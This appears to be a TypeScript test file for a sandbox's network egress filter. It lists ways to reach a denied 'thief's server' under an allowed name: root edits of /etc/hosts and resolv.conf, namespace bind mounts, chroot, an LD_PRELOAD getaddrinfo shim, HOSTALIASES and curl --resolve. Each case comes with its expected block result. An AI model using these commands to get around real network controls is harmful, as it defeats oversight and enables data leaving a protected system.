import type { Row } from '../case.ts'
import { curl, python } from './script.ts'

const by = 'connect: nothing was learned, `EPERM`'
const twin = curl('"http://good.example.com/$T"')
const get = 'curl -sS --max-time 8 -o /dev/null --http0.9 "http://good.example.com:8080/$T"'

/** With the mounts of an own namespace; a user needs a user namespace for it. */
const mounted = (script: string): string => `unshare -Urm bash -c '${script}'`
const addressOnly = 'echo "$D4 good.example.com" >$SHARED/hosts.$T'

export const namesByOtherWays: Row = {
  row: 22,
  title: 'Names without our resolver',
  cases: [
    {
      id: 'hosts-file',
      technique: 'address written into /etc/hosts for an allowed name',
      as: ['root'],
      attempt: `cp /etc/hosts $SHARED/hosts.kept; echo "$D4 good.example.com" >>/etc/hosts; ${get}; status=$?; cat $SHARED/hosts.kept >/etc/hosts; exit $status`,
      twin,
      by,
    },
    {
      id: 'hosts-mount',
      technique: 'own hosts file mounted over /etc/hosts',
      attempt: mounted(`${addressOnly}; mount --bind $SHARED/hosts.$T /etc/hosts && ${get}`),
      twin,
      by,
    },
    {
      id: 'resolv-conf-mount',
      technique: 'own resolv.conf mounted, which names the thief’s server',
      attempt: mounted(
        `echo "nameserver $D4" >$SHARED/resolv.$T; mount --bind $SHARED/resolv.$T /etc/resolv.conf && getent hosts $HOST`,
      ),
      twin,
      by: 'names: led to our proxy whatever the file says',
    },
    {
      id: 'resolv-conf-write',
      technique: 'resolv.conf rewritten by root',
      as: ['root'],
      attempt: `cp /etc/resolv.conf $SHARED/resolv.kept; echo "nameserver $D4" >/etc/resolv.conf; timeout 2 getent hosts $HOST; status=$?; cat $SHARED/resolv.kept >/etc/resolv.conf; exit $status`,
      twin,
      by: 'names: led to our proxy whatever the file says',
    },
    {
      id: 'resolv-conf-tcp',
      technique: 'resolver by TCP (options use-vc)',
      attempt: 'RES_OPTIONS=use-vc getent hosts $HOST',
      by: 'names: `REFUSED`, over TCP too',
    },
    {
      id: 'nsswitch',
      technique: 'own nsswitch.conf with files of its own first',
      attempt: mounted(
        `${addressOnly}; echo "hosts: files" >$SHARED/nsswitch.$T; mount --bind $SHARED/hosts.$T /etc/hosts; mount --bind $SHARED/nsswitch.$T /etc/nsswitch.conf && ${get}`,
      ),
      twin,
      by,
    },
    {
      id: 'chroot',
      technique: 'chroot with an own resolv.conf and hosts',
      attempt: mounted(
        `mkdir -p $SHARED/root.$T && mount --rbind / $SHARED/root.$T && ${addressOnly} && mount --bind $SHARED/hosts.$T $SHARED/root.$T/etc/hosts && chroot $SHARED/root.$T ${get}`,
      ),
      twin,
      by,
    },
    {
      id: 'preload',
      technique: 'LD_PRELOAD in place of getaddrinfo',
      attempt: `cat >$SHARED/pre.$T.c <<'END'
#include <netdb.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
int getaddrinfo(const char *name, const char *service, const struct addrinfo *hints, struct addrinfo **to)
{
	struct addrinfo *found = calloc(1, sizeof(*found));
	struct sockaddr_in *address = calloc(1, sizeof(*address));
	address->sin_family = AF_INET;
	address->sin_port = htons(service ? atoi(service) : 0);
	inet_pton(AF_INET, getenv("D4"), &address->sin_addr);
	found->ai_family = AF_INET;
	found->ai_socktype = SOCK_STREAM;
	found->ai_addr = (void *)address;
	found->ai_addrlen = sizeof(*address);
	*to = found;
	return 0;
}
END
gcc -shared -fPIC -o $SHARED/pre.$T.so $SHARED/pre.$T.c && LD_PRELOAD=$SHARED/pre.$T.so ${get}`,
      twin,
      by,
    },
    {
      id: 'host-aliases',
      technique: 'HOSTALIASES that make an allowed-looking name a denied one',
      attempt:
        'echo "good $HOST" >$SHARED/aliases.$T; HOSTALIASES=$SHARED/aliases.$T getent hosts good',
      twin,
      by: 'names: `REFUSED`',
    },
    {
      id: 'resolve-option',
      technique: 'address given to the client for an allowed name (curl --resolve)',
      attempt:
        'curl -sS --max-time 8 -o /dev/null --http0.9 --resolve good.example.com:8080:$D4 "http://good.example.com:8080/$T"',
      twin,
      by,
    },
    {
      id: 'address-after-learning',
      technique: 'allowed name resolved first, then another address under its name',
      attempt: python(`
address_of('good.example.com')
s = tcp((D4, 80 if T[2] == 'a' else PORT))`),
      by,
    },
    {
      id: 'stolen-ttl',
      technique: 'addresses out of the TXT and HTTPS records of an allowed name',
      attempt: python(`
ask(query('good.example.com', 16)); ask(query('good.example.com', 65))
s = tcp((D4, 443 if T[2] == 'a' else PORT))`),
      by,
    },
  ],
}
